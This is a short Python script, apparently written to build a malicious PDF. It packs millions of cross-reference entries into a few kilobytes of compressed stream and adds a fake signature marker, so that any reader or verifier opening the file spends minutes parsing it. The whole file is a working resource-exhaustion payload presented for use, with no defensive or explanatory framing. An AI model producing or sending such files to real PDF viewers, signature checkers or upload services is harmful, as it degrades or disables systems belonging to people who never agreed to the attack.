"""A small PDF that costs whoever opens it all the time that he has."""

import zlib


def dear_pdf(megabytes=24):
    """A few kB that call themselves sealed; to read the six million places in it takes minutes."""
    packed = zlib.compress(b"\1\0\0\0" * (megabytes * 2**18), 9)
    head = b"<< /Type /XRef /Size %d /W [1 2 1] /Root 1 0 R /Filter /FlateDecode /Length %d >>"
    head %= (megabytes * 2**18, len(packed))
    body = b"%PDF-1.7\n1 0 obj\n" + head + b"\nstream\n" + packed + b"\nendstream\nendobj\n"
    return body + b"% /ByteRange\nstartxref\n9\n%%EOF\n"
